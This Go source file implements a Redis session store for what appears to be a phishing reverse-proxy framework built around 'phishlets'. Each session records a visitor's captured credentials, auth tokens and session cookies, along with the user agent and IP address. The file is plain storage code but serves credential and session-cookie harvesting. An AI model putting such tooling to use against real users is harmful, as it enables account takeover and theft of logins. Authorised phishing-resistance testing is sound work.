package storage

import (
	"context"
	"encoding/json"
	"fmt"
	"time"

	"github.com/redis/go-redis/v9"
)

const (
	sessionPrefix = "session:"
	defaultTTL    = 24 * time.Hour
)

// RedisStorage persists sessions in Redis with a TTL, for deployments where
// multiple proxy nodes share one session store.
type RedisStorage struct {
	client  *redis.Client
	options *RedisOptions
}

type RedisOptions struct {
	Addr     string
	Password string
	DB       int
	TTL      time.Duration
}

var _ Storage = (*RedisStorage)(nil)

func NewRedisStorage(opts *RedisOptions) (*RedisStorage, error) {
	if opts.TTL == 0 {
		opts.TTL = defaultTTL
	}

	client := redis.NewClient(&redis.Options{
		Addr:         opts.Addr,
		Password:     opts.Password,
		DB:           opts.DB,
		PoolSize:     10,
		MinIdleConns: 5,
		MaxRetries:   3,
	})

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()

	if err := client.Ping(ctx).Err(); err != nil {
		return nil, fmt.Errorf("redis connection failed: %v", err)
	}

	rs := &RedisStorage{
		client:  client,
		options: opts,
	}

	return rs, nil
}

func (rs *RedisStorage) CreateSession(ctx context.Context, sid string, phishlet string, landingURL string, userAgent string, remoteAddr string) error {
	id, err := rs.client.Incr(ctx, "session_next_id").Result()
	if err != nil {
		return err
	}

	session := &Session{
		Id:           int(id),
		SessionId:    sid,
		Phishlet:     phishlet,
		LandingURL:   landingURL,
		Credentials:  make(map[string]string),
		Tokens:       make(map[string]string),
		CookieTokens: make(map[string]map[string]*CookieToken),
		Status:       "active",
		UserAgent:    userAgent,
		RemoteAddr:   remoteAddr,
		CreateTime:   time.Now().UTC().Unix(),
		UpdateTime:   time.Now().UTC().Unix(),
	}

	return rs.saveSession(ctx, session)
}

func (rs *RedisStorage) GetSession(ctx context.Context, sid string) (*Session, error) {
	data, err := rs.client.Get(ctx, sessionPrefix+sid).Bytes()
	if err != nil {
		if err == redis.Nil {
			return nil, fmt.Errorf("session not found: %s", sid)
		}
		return nil, err
	}

	var session Session
	if err := json.Unmarshal(data, &session); err != nil {
		return nil, err
	}
	return &session, nil
}

func (rs *RedisStorage) ListSessions(ctx context.Context) ([]*Session, error) {
	var sessions []*Session
	iter := rs.client.Scan(ctx, 0, sessionPrefix+"*", 0).Iterator()

	for iter.Next(ctx) {
		data, err := rs.client.Get(ctx, iter.Val()).Bytes()
		if err != nil {
			continue
		}

		var session Session
		if err := json.Unmarshal(data, &session); err != nil {
			continue
		}
		sessions = append(sessions, &session)
	}

	return sessions, iter.Err()
}

func (rs *RedisStorage) DeleteSession(ctx context.Context, sid string) error {
	return rs.client.Del(ctx, sessionPrefix+sid).Err()
}

func (rs *RedisStorage) UpdateCredentials(ctx context.Context, sid string, creds map[string]string) error {
	return rs.updateSession(ctx, sid, func(s *Session) {
		for k, v := range creds {
			s.Credentials[k] = v
		}
	})
}

func (rs *RedisStorage) UpdateTokens(ctx context.Context, sid string, tokens map[string]string) error {
	return rs.updateSession(ctx, sid, func(s *Session) {
		for k, v := range tokens {
			s.Tokens[k] = v
		}
	})
}

func (rs *RedisStorage) UpdateCookieTokens(ctx context.Context, sid string, tokens map[string]map[string]*CookieToken) error {
	return rs.updateSession(ctx, sid, func(s *Session) {
		s.CookieTokens = tokens
	})
}

func (rs *RedisStorage) UpdateStatus(ctx context.Context, sid string, status string) error {
	return rs.updateSession(ctx, sid, func(s *Session) {
		s.Status = status
	})
}

func (rs *RedisStorage) Cleanup(ctx context.Context) error {
	// TTLs already expire stale keys; nothing else to reclaim.
	return nil
}

func (rs *RedisStorage) Close() error {
	return rs.client.Close()
}

func (rs *RedisStorage) updateSession(ctx context.Context, sid string, mod func(*Session)) error {
	session, err := rs.GetSession(ctx, sid)
	if err != nil {
		return err
	}
	mod(session)
	session.UpdateTime = time.Now().UTC().Unix()
	return rs.saveSession(ctx, session)
}

func (rs *RedisStorage) saveSession(ctx context.Context, session *Session) error {
	data, err := json.Marshal(session)
	if err != nil {
		return err
	}

	pipe := rs.client.Pipeline()
	pipe.Set(ctx, sessionPrefix+session.SessionId, data, rs.options.TTL)
	_, err = pipe.Exec(ctx)
	return err
}
